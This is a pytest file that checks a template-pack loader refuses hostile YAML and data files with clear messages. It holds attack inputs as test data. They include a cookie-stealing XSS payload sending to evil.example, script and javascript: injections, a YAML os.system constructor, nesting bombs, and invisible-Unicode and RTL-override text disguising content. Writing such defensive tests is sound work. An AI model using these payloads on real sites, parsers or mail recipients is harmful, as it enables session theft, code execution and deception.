"""Hostile template and data files: each is refused with a message naming the file,
never a traceback, a crash, a hang or a skip. One or more cases per class of attack."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from make_it_right import loader
from make_it_right.errors import DataError, PackError
from make_it_right.guide import GUIDE_FILE, load_guide
from make_it_right.loader import load_pack

EMAIL = Path("templates/email/late-files.yml")


def edit(path: Path, **changes) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for dotted, value in changes.items():
        *parents, last = dotted.split("__")
        target = data
        for key in parents:
            target = target[key]
        target[last] = value
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def problems() -> list[str]:
    with pytest.raises(PackError) as caught:
        load_pack(Path("templates"))
    return [str(p) for p in caught.value.problems]


PLAIN = "it is shown as plain text, so write it as one line of words without markup"

# Class: script or markup from one line of YAML (title, when, labels, hints, ...).
@pytest.mark.parametrize("key, value, what", [
    ("title", '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">', "an HTML tag"),
    ("title", "Sorry <script>alert(1)</script>", "an HTML tag"),
    ("when", "Use it [now](javascript:alert(1)).", "a Markdown link or image"),
    ("when", "Look ![x](https://evil.example/pixel.png)", "a Markdown link or image"),
    ("title", "Late files\n{: onclick=\"alert(1)\" }", "a line break"),
    ("title", "Late files { #x onclick=alert(1) }", "a Markdown attribute list"),
    ("when", "Click javascript:alert(1) here", "a script or data URL"),
    ("when", "Now &lt;script&gt; please", "an HTML entity"),
    ("title", "Late {{ config }} files", "template syntax"),
    ("fields__client_name__label", "Name<svg/onload=alert(1)>", "an HTML tag"),
    ("fields__client_name__hint", "[help](javascript:void(0))", "a Markdown link or image"),
    ("fields__client_name__example", "Priya\u2028Bcc: x", "a line break"),
    ("title", "Late\x1bfiles", "a control character"),
])
def test_markup_in_a_one_line_field_is_refused(project, key, value, what):
    edit(EMAIL, **{key: value})
    name = key.replace("__", ".")
    assert f"templates/email/late-files.yml: key '{name}' holds {what}; {PLAIN}" in problems()


# Class: crashes and hangs from the shape of the YAML.
@pytest.mark.parametrize("text, message", [
    ("[" * 50_000, "nests deeper than 12 levels at line 1; flatten it"),
    ("{a: " * 3000 + "b" + "}" * 3000, "nests deeper than 12 levels at line 1"),
    ("a: &x [1, 2]\nb: *x\n", "uses a YAML anchor or alias at line 1; write the value out instead"),
    ("? [a, b]\n: c\n", "has a key that is not plain text at line 1, column 3; keys are names like title"),
    ("id: !!python/object/apply:os.system [echo pwned]\n", "could not determine a constructor"),
])
def test_hostile_yaml_shape_is_refused_in_a_fresh_process(project, text, message):
    """In a fresh process, so a crash (a segfault in a C parser) fails the test, not pytest."""
    EMAIL.write_text(text, encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "make_it_right", "--pack", "templates",
                             "check"], capture_output=True, text=True, timeout=60)
    assert result.returncode == 1, result.stderr
    assert result.stderr.startswith("templates/email/late-files.yml: "), result.stderr
    assert message in result.stderr
    assert "Traceback" not in result.stderr


# Class: reading what is not a plain template file.
def test_a_symlink_to_a_device_is_not_read(project):
    EMAIL.unlink()
    EMAIL.symlink_to("/dev/zero")
    assert problems() == [f"{EMAIL}: is not a regular file; a template is a plain .yml file, "
                          "not a folder, link or device"]


def test_a_huge_file_is_refused_without_reading_it_all(project):
    EMAIL.write_text("title: " + "x" * 200_000, encoding="utf-8")
    assert problems() == [f"{EMAIL}: is larger than 64 KB; split it or trim it"]


@pytest.mark.parametrize("make, message", [
    (lambda: Path("templates/email/extra.yml").mkdir(),
     "templates/email/extra.yml: is not a regular file"),
    (lambda: Path("templates/email/LOUD.YML").write_text("id: loud\n"),
     "templates/email/LOUD.YML: is not a template file (.yml); rename it to LOUD.yml"),
    (lambda: Path("templates/email/nested").mkdir(),
     "templates/email/nested: is not a template file (.yml); move it out of templates/"),
    (lambda: Path("templates/README.md").write_text("hi"),
     "templates/README.md: is not a channel folder"),
])
def test_anything_else_in_the_pack_is_named_not_skipped(project, make, message):
    make()
    assert any(p.startswith(message) for p in problems()), problems()


def test_an_unreadable_folder_is_a_problem_not_a_skip(project, monkeypatch):
    def refuse(folder):
        if str(folder).endswith("voicemail"):
            raise PermissionError(13, "Permission denied")
        return original(folder)
    original = loader.os.scandir
    monkeypatch.setattr(loader.os, "scandir", refuse)
    assert problems() == ["templates/voicemail: cannot be read (Permission denied); "
                          "fix its permissions"]


# Class: the decision guide as input.
@pytest.mark.parametrize("change, message", [
    (lambda g: g["questions"][0].update(ask="Who <b onmouseover=alert(1)>did it</b>?"),
     "key 'questions.0.ask': holds an HTML tag; write one line of plain words"),
    (lambda g: g["questions"][0]["answers"].update(team="[Team](javascript:alert(1))"),
     "key 'questions.0.answers.team': holds a Markdown link or image"),
    (lambda g: g["questions"][0]["answers"].update({'x" onclick="alert(1)': "X"}),
     "is not kebab-case"),
    (lambda g: g["questions"].extend(
        {"id": f"q{i}", "ask": "More?", "answers": {"a": "A", "b": "B"}} for i in range(2)),
     "the questions make more than 64 paths; keep it to 64"),
])
def test_hostile_decision_guide_is_refused(tmp_path, change, message):
    guide = yaml.safe_load(GUIDE_FILE.read_text(encoding="utf-8"))
    change(guide)
    path = tmp_path / "decision-guide.yml"
    path.write_text(yaml.safe_dump(guide, allow_unicode=True), encoding="utf-8")
    with pytest.raises(DataError) as caught:
        load_guide(path)
    assert str(caught.value).startswith(f"{path}: ") and message in str(caught.value)


# Class: text that reads differently from what is sent (clipboard, .eml, .ics).
@pytest.mark.parametrize("key, value, what", [
    ("subject", "Your files: report.\u202efdp.exe", "an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE)"),
    ("subject", "Late \u2066files\u2069", "an invisible character (U+2066 LEFT-TO-RIGHT ISOLATE)"),
    ("sections__apology", "I'm sorry.\u200bPay now.", "an invisible character (U+200B ZERO WIDTH SPACE)"),
    ("sections__fix", "Fixed." + "".join(chr(0xE0000 + ord(c)) for c in "wire money"),
     "an invisible character (U+E0077 TAG LATIN SMALL LETTER W)"),
    ("sections__greeting", "Hi \uff5b\uff5b client_name \uff5d\uff5d,",
     "a lookalike brace (U+FF5B FULLWIDTH LEFT CURLY BRACKET)"),
    ("title", "Late\u00adfiles", "an invisible character (U+00AD SOFT HYPHEN)"),
    ("fields__client_name__example", "Pri\u2060ya", "an invisible character (U+2060 WORD JOINER)"),
    ("when", "Use it\u3164now", "an invisible character (U+3164 HANGUL FILLER)"),
])
def test_invisible_or_lookalike_text_is_refused_naming_the_key(project, key, value, what):
    edit(EMAIL, **{key: value})
    found = problems()
    name = key.replace("__", ".")
    assert len(found) == 1 and found[0].startswith(
        f"templates/email/late-files.yml: key '{name}' holds {what} at character "), found


def test_invisible_text_in_a_data_file_is_refused(tmp_path):
    guide = yaml.safe_load(GUIDE_FILE.read_text(encoding="utf-8"))
    guide["questions"][0]["ask"] = "Who\u200d did it?"
    path = tmp_path / "decision-guide.yml"
    path.write_text(yaml.safe_dump(guide, allow_unicode=True), encoding="utf-8")
    with pytest.raises(DataError) as caught:
        load_guide(path)
    assert str(caught.value).startswith(f"{path}: key 'questions.0.ask' holds an invisible "
                                        "character (U+200D ZERO WIDTH JOINER)")
